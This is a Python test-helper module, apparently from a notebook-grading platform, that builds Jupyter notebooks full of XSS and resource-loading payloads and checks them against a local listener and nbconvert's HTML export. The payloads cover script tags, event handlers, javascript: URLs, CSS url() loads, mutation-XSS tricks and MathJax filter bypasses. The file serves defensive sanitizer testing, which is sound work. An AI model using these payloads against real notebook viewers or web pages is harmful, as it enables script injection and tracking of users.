"""What a student can put into a notebook so that opening it runs something or asks the network for something."""

from __future__ import annotations

import base64
import contextlib
import http.server
import json
import re
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

RUN = "window.pwned=1;new Image().src='{url}/ran'"

HTML = [
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT >",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script src='{url}/s.js'></script>",
    "<script type=module>import '{url}/m.js'</script>",
    "<img src='{url}/i.png'>",
    '<img src=x onerror="{run}">',
    "<img src=x onerror={bare}",
    "<img srcset='{url}/set.png 1x'>",
    "<img src='data:image/svg+xml;base64,{svg}'>",
    "<img src='data:image/png;base64,AA==' onerror=\"{run}\">",
    "<picture><source srcset='{url}/pic.png'><img></picture>",
    "<input type=image src='{url}/in.png'>",
    '<svg onload="{run}"></svg>',
    "<svg><script>{run}</script></svg>",
    "<svg><image href='{url}/svg.png'/></svg>",
    "<svg><use href='{url}/use.svg#x'/></svg>",
    '<svg><animate onbegin="{run}" attributeName=x dur=1s>',
    "<iframe src='{url}/frame'></iframe>",
    '<iframe srcdoc="<script>{bare}</script>"></iframe>',
    '<iframe src="javascript:{bare}"></iframe>',
    "<object data='{url}/object'></object>",
    "<embed src='{url}/embed'>",
    "<link rel=stylesheet href='{url}/l.css'>",
    "<link rel=prefetch href='{url}/pre'>",
    "<link rel=icon href='{url}/icon'>",
    "<meta http-equiv=refresh content='0;url={url}/meta'>",
    "<base href='{url}/'><img src=based.png>",
    "<style>@import url({url}/import.css);</style>",
    "<style>body{{background:url({url}/style.png)}}</style>",
    "<style>@font-face{{font-family:x;src:url({url}/f.woff)}}*{{font-family:x}}</style>",
    "<div style='background:url({url}/bg.png)'>x</div>",
    "<div style=\"background-image:url('{url}/bgi.png')\">x</div>",
    "<div style='background:\\75 rl({url}/esc.png)'>x</div>",
    "<div style='background:u\\72l({url}/esc2.png)'>x</div>",
    "<div style='background:image-set(\"{url}/set2.png\" 1x)'>x</div>",
    "<div style='cursor:url({url}/cur.png),auto'>x</div>",
    "<ul style='list-style-image:url({url}/li.png)'><li>x</ul>",
    "<ul style='list-style:url({url}/ls.png)'><li>x</ul>",
    "<div style='border-image:url({url}/bi.png) 1;border:1px solid'>x</div>",
    "<p style='content:url({url}/c.png)'>x</p>",
    "<p style='mask-image:url({url}/mask.png)'>x</p>",
    "<p style='background:/**/url(/**/{url}/com.png)'>x</p>",
    "<p style='width:1px;background:URL({url}/upper.png)'>x</p>",
    "<p style='color:red;}} p{{background:url({url}/out.png)'>x</p>",
    "<video src='{url}/v.mp4' poster='{url}/poster.png' autoplay></video>",
    "<audio src='{url}/a.mp3' autoplay></audio>",
    "<video><source src='{url}/vs.mp4'></video>",
    "<video><track default src='{url}/t.vtt'></video>",
    "<table background='{url}/tb.png'><tr><td background='{url}/td.png'>x</table>",
    "<body background='{url}/body.png'>",
    '<details open ontoggle="{run}"><summary>x</summary></details>',
    '<marquee onstart="{run}">x</marquee>',
    '<input autofocus onfocus="{run}">',
    '<body onload="{run}">',
    '<button autofocus onfocus="{run}">x</button>',
    "<form action='{url}/form'><input name=x></form><script>document.forms[0].submit()</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror='{bare}'&gt;\">",
    '<svg><style><img src=x onerror="{run}"></style></svg>',
    "<noscript><p title=\"</noscript><img src=x onerror='{bare}'>\">",
    "<textarea><script>{run}</script></textarea><script>{run}</script>",
    "<!--><script>{run}</script>-->",
    "<template><script>{run}</script></template>",
    "<xmp><p title='</xmp><img src=x onerror={bare}>'>",
    "<a href='javascript:{bare}' autofocus onfocus=\"{run}\">x</a>",
    "<p onanimationstart=\"{run}\" style='animation:x 1s'>x</p>",
    "<div><template shadowrootmode=open><img src='{url}/shadow.png'></template></div>",
    "<div class='jp-Mermaid'><pre class='mermaid'>graph TD; A[\"<img src='{url}/mm.png'>\"]</pre></div>",
    "<p>\\(\\style{{background:url({url}/tex.png)}}{{x}}\\)</p>",
    "<p>$\\bbox[background:url({url}/bb.png)]{{x}}$</p>",
    '<style>x</style\n><img src=x onerror="{run}">',
    "<img\n/src='{url}/slash.png'/onerror=\"{run}\">",
    "<p style=\"font-family:'\\27&quot;;background:url({url}/entity.png);&quot;'\">x</p>",
    "<p style='color:r&#101;d&semi;background&colon;u&#114;l({url}/entities.png)'>x</p>",
    "<a href='java&Tab;script:{bare}'>x</a>",
]

# What MathJax, in JupyterLab and on nbconvert's page, asks for in spite of its own filter. It reads on across a few tags.
MATHEMATICS = [
    "<p>$\\st<wbr>yle{{cursor:url({url}/sly-wbr.png),auto}}{{x}}$</p>",
    "<p>$\\<wbr>style{{cursor:url({url}/sly-slash.png),auto}}{{x}}$</p>",
    "<p>\\<wbr>(\\st<!-- -->yle{{cursor:url({url}/sly-comment.png),auto}}{{x}}\\)</p>",
    "<p>\\begin{{equation}}\\s&#x74;yle{{cursor:url({url}/sly-entity.png),auto}}{{x}}\\end{{equation}}</p>",
    '<p>$\\mml<wbr>Token{{mglyph}}[src="{url}/sly-glyph.png"]{{}}$</p>',
    "<p>$\\de<wbr>f\\x{{\\s&#116;yle}}\\x{{cursor:url({url}/sly-def.png),auto}}{{x}}$</p>",
    "<p>$\\hr<wbr>ef{{java\tscript:{bare}}}{{/sly-link}}$</p>",
]
HTML += MATHEMATICS

MARKDOWN = [
    *HTML[:14],
    HTML[18],
    "![x]({url}/md.png)",
    "![x][1]\n\n[1]: {url}/ref.png",
    "[![x]({url}/nest.png)](http://x)",
    "<{url}/auto>",
    "![x](<{url}/angle.png>)",
    "![\nx\n]({url}/lines.png)",
    "![x]\n({url}/gap.png)",
    "![one]\n\n[one]: {url}/short.png",
    "```mermaid\ngraph TD; A[\"<img src='{url}/mer.png'>\"]\n```",
    "~~~ mermaid\ngraph TD; A-->B\n~~~",
    "$\\style{{background-image:url({url}/sty.png)}}{{x}}$",
    "$$\\bbox[background:url({url}/bbox.png)]{{x}}$$",
    "$\\require{{html}}\\href{{javascript:{bare}}}{{x}}$",
    "$\\includegraphics{{{url}/inc.png}}$",
    "&lt;img src=x onerror={bare}>",
    "> <img src='{url}/quoted.png'>",
    "* <script>{run}</script>",
    "    code\n\n<img src='{url}/after.png'>",
    "`x`<img src='{url}/span.png'>",
    "\\![x]({url}/escaped.png)",
    "[x](javascript:{bare})",
    "!\\[x]({url}/half.png)",
    "![a](attachment:a.svg)",
    "[x](java&Tab;script:{bare})",
    "[x](javascript&colon;{bare})",
    "<javascript:{bare}>",
    "[x][y]\n\n[y]: javascript:{bare}",
    "[^1]\n\n[^1]: [x](data:text/html,{bare})",
    "# [x](vbscript:{bare})",
    "www.example.org a@example.org",
    '~~~x" style="background:url({short}/sly-tildes.png)" a="\nx\n~~~',
    '> ```x" style="background:url({short}/sly-ticks.png)" a="\n> x\n> ```',
    '~~~x" style="content-visibility:auto" oncontentvisibilityautostatechange="{bare}" a="\nx\n~~~',
    '~~~$x\n" style="background:url({short}/lines.png)" $\nx\n~~~',
    "$\\st\0yle{{cursor:url({short}/sly-nought.png),auto}}{{x}}$",
    '$\\mmlToken{{mglyph}}[src="{short}/sly-token.png"]{{}}$',
]

MIME: list[dict[str, Any]] = [
    {"application/javascript": "{run}"},
    {
        "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\"{run}\"><image href='{url}/m.png'/></svg>"
    },
    {"text/latex": "$\\style{{background:url({url}/latex.png)}}{{x}}$"},
    {"image/png": "iVBORw0KGgo="},  # with an alt text that is none, below
    {"image/png": '"><script>{run}</script>'},
    {"image/jpeg": 'x" onerror="{run}'},
    {"application/pdf": "JVBERi0="},
    {"text/vnd.mermaid": "graph TD; A-->B"},
    {
        "application/vnd.vega.v5+json": {
            "$schema": "https://vega.github.io/schema/vega/v5.json",
            "data": [{"url": "{url}/v.json"}],
        }
    },
    {"application/vnd.vegalite.v5+json": {"mark": "point", "data": {"url": "{url}/vl.json"}}},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "a", "version_major": 2, "version_minor": 0}},
    {"application/vnd.plotly.v1+json": {"data": []}},
    {"application/geo+json": {"type": "FeatureCollection"}},
    {"application/json": {"<img src=x onerror={bare}>": 1}},
    {"text/x-unknown": "<script>{run}</script>"},
    {},
    {"application/vnd.huashan.answer+json": {"id": "<script>{run}</script>"}},
    {"text/plain": "<script>{run}</script>"},
]

STATE = {
    "state": {
        "a": {
            "model_name": "HTMLModel",
            "model_module": "@jupyter-widgets/controls",
            "model_module_version": "2.0.0",
            "state": {"value": "<img src='{url}/widget.png'>"},
        }
    },
    "version_major": 2,
    "version_minor": 0,
}


def filled(value: Any, url: str) -> Any:
    """A payload with its address and its script put in."""
    if isinstance(value, dict):
        return {filled(key, url): filled(one, url) for key, one in value.items()}
    if isinstance(value, list):
        return [filled(one, url) for one in value]
    if not isinstance(value, str):
        return value
    run = RUN.format(url=url)
    svg = base64.b64encode(
        f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{url}/b64.png'/></svg>".encode()
    ).decode()
    short = url.removeprefix("http:")
    return value.format(url=url, short=short, run=run, bare=run.replace("'", "`"), svg=svg)


def outputs(url: str, sound: bool) -> list[dict[str, Any]]:
    """Every payload as an output."""
    show = [{"text/html": one} for one in HTML] + [{"text/markdown": one} for one in MARKDOWN] + MIME
    found = [
        {
            "output_type": "display_data",
            "data": filled(one, url),
            "metadata": {"image/png": {"alt": '"><script>1</script>'}},
        }
        for one in show
    ]
    words = filled("<script>{run}</script><img src='{url}/word.png'>", url)
    found.append({"output_type": "stream", "name": words, "text": f"\x1b[31m{words}\x1b[0m"})
    found.append({"output_type": "error", "ename": words, "evalue": words, "traceback": [f"\x1b[31m{words}"]})
    found.append(
        {
            "output_type": "execute_result",
            "execution_count": words,
            "data": {"text/html": words},
            "metadata": {},
        }
    )
    return found


def notebook(url: str, sound: bool = True) -> dict[str, Any]:
    """A notebook of everything: outputs, text cells, raw cells, tags, titles, widgets; if not `sound`, no valid one."""
    words = filled("\"><script>{run}</script><img src='{url}/meta.png'>", url)
    made = [
        {
            "cell_type": "code",
            "id": f"c{n}",
            "metadata": {"tags": [words, "fine"]},
            "source": f"print({words!r})",
            "execution_count": n,
            "outputs": [one],
        }
        for n, one in enumerate(outputs(url, sound))
    ]
    svg = {"a.svg": {"image/svg+xml": filled('<svg onload="{run}"/>', url)}}
    made += [
        {
            "cell_type": "markdown",
            "id": f"m{n}",
            "metadata": {},
            "source": filled(one, url),
            "attachments": svg,
        }
        for n, one in enumerate(MARKDOWN + HTML)
    ]
    made += [
        {"cell_type": "raw", "id": f"r{n}", "metadata": how, "source": words}
        for n, how in enumerate(({}, {"raw_mimetype": "text/html"}, {"format": "text/html"}))
    ]
    metadata = {
        "title": words,
        "widgets": {"application/vnd.jupyter.widget-state+json": filled(STATE, url)},
        "kernelspec": {"name": "python3", "display_name": words},
        "language_info": {"name": words, "pygments_lexer": words},
    }
    return {"cells": made, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}


def lively(url: str) -> dict[str, Any]:
    """A notebook of what certainly works where nothing is made safe, and does not lead away from the page."""
    made = notebook(url)
    gone = ("refresh", "<base", "<form", "<iframe", "autofocus", "<body")
    kept = [cell for cell in made["cells"] if not any(word in json.dumps(cell) for word in gone)]
    plain = [cell for cell in kept if cell["cell_type"] == "code"][:40]
    return {**made, "cells": plain + [cell for cell in kept if "/sly-" in json.dumps(cell)], "metadata": {}}


def sly(made: dict[str, Any]) -> set[str]:
    """What those ask for that look like text."""
    return set(re.findall(r"/sly-\w+\.png", json.dumps(made)))


class Seen(HTMLParser):
    """Tags and attributes of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


@contextlib.contextmanager
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server that writes down what it is asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Nothing on the screen."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", asked
    finally:
        server.shutdown()
        server.server_close()


def exported(made: dict[str, Any]) -> str:
    """The page that `jupyter nbconvert --to html` makes of a notebook."""
    from nbconvert import HTMLExporter

    from helpers import notebooks

    node = notebooks.nbformat.from_dict(json.loads(json.dumps(made)))
    return str(HTMLExporter().from_notebook_node(node)[0])
